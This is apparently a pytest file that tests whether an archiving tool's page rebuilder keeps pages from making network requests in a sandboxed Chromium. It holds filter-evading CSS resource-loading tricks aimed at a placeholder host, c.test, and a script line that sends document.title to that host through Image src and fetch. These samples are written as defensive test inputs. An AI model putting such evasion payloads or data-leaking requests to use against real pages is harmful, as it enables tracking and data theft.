"""Rebuilt pages in a real browser without a network: whatever they were made of, they ask for nothing, even where the
browser ignores the policy at their head."""

from collections.abc import Iterator
from pathlib import Path

import pytest

from bento.functions.browser.packet import Fetched, Part
from bento.functions.browser.rebuild import rebuild
from tests.chromium import Chromium
from tests.unit.test_browser_rebuild import EVIL

pytestmark = pytest.mark.needs("bubblewrap", "chromium")

CSS = """@import 'http://c.test/1';@import url(http://c.test/2);@\\69mport 'http://c.test/3';@font-face{font-family:f;
src:url(http://c.test/4)}*{font-family:f;background:u\\72l(http://c.test/5),image-set('http://c.test/6' 1x),
-webkit-image-set(url(http://c.test/7) 1x);cursor:url(http://c.test/8),auto;list-style:url("http://c.test/9")}
*:before{content:url('http://c.test/10')}@import url(data:text/css,@import'http://c.test/11';);"""

LATE = "*{background:url(http://c.test/late)}"
TRICKS = (
    "*{background:u\\72\r\nl(http://c.test/)}",
    '*{color:url(a"b);background:url(http://c.test/);x:"',
    '*{background:url("http://c.test/" /**/)}',
    '*{background:url("http://c.test/" cross-origin(anonymous))}',
    f'<!--url(a"b){{}} {LATE} x{{y:"',
    f'x{{y:1url(/*)"*/}} {LATE} z{{w:"}}',
    f'x{{y:#1url(/*)"*/}} {LATE} z{{w:"}}',
    '*{--x:"http://c.test/";background:image-set(var(--x) 1x)}',
    '*{--e:;background:image-set(var(--e,{;})"http://c.test/" 1x)}',
    '@function --f(--u){result:image-set(var(--u) 1x)} *{background:--f("http://c.test/")}',
)
"""Each read otherwise by browsers than at first sight, and by readers that were less careful."""


@pytest.fixture(scope="module")
def cut() -> Iterator[Chromium]:
    with Chromium() as browser:
        yield browser


def write(file: Path, page: str, *parts: Part, scripts: bool = False) -> str:
    """The URL of the file that a page is rebuilt as."""
    whole = (Part("http://a.test/", "http://a.test/", "text/html", page.encode()), *parts)
    file.write_bytes(rebuild(Fetched(200, whole), scripts=scripts)[1])
    return file.as_uri()


def asked(cut: Chromium, url: str) -> set[str]:
    """What the browser asked for beside the file itself, with the policy and without it."""
    return {*cut.visit(url, once_more_unguarded=True).asked} - {url}


@pytest.mark.parametrize("start", range(0, len(EVIL), 8))
def test_an_evil_page_asks_for_nothing(cut: Chromium, tmp_path: Path, start: int) -> None:
    page = "\n".join(evil.replace("javascript:x", "javascript:fetch('http://c.test/')") for evil in EVIL[start:][:8])
    assert asked(cut, write(tmp_path / "page.html", page)) == set()


@pytest.mark.parametrize(
    "how", ["<style>{}</style><p>x", "<link rel=stylesheet href=/s.css><p>x", "<svg><style>{}</style></svg>"]
)
def test_an_evil_style_sheet_asks_for_nothing(cut: Chromium, tmp_path: Path, how: str) -> None:
    sheet = "http://a.test/s.css"
    url = write(tmp_path / "page.html", how.replace("{}", CSS), Part(sheet, sheet, "text/css", CSS.encode()))
    assert asked(cut, url) == set()


def test_a_style_sheet_that_is_cut_otherwise_than_it_looks_asks_for_nothing(cut: Chromium, tmp_path: Path) -> None:
    sheets = [Part(f"http://a.test/{n}", f"http://a.test/{n}", "text/css", s.encode()) for n, s in enumerate(TRICKS)]
    page = "".join(f"<link rel=stylesheet href=/{number}>" for number in range(len(TRICKS)))
    page += "".join(f"<p style='{sheet[2:-1]}'>x" for sheet in TRICKS if sheet.startswith("*{"))
    assert asked(cut, write(tmp_path / "page.html", page, *sheets)) == set()


def test_the_same_page_as_it_was_asks_for_much(cut: Chromium, tmp_path: Path) -> None:
    """The control: what is found to be nothing above is something."""
    file = tmp_path / "page.html"
    file.write_text(f"<style>{CSS}</style><p>x" + "\n".join(evil for evil in EVIL[:40] if "efresh" not in evil))
    assert len(cut.visit(file.as_uri()).asked) > 10


def test_scripts_that_are_kept_run_and_are_held_by_the_policy(cut: Chromium, tmp_path: Path) -> None:
    name = "http://a.test/a.js"
    code = b"new Image().src = 'http://c.test/' + document.title; fetch('http://c.test/2')"
    script = Part(name, name, "text/javascript", code)
    url = write(tmp_path / "page.html", "<title>ran</title><script src=/a.js></script>", script, scripts=True)
    cut.recorded()
    cut.visit(url)
    assert cut.recorded() == []
    cut.visit(url, once_more_unguarded=True)
    assert any("http://c.test/ran" in line for line in cut.recorded())
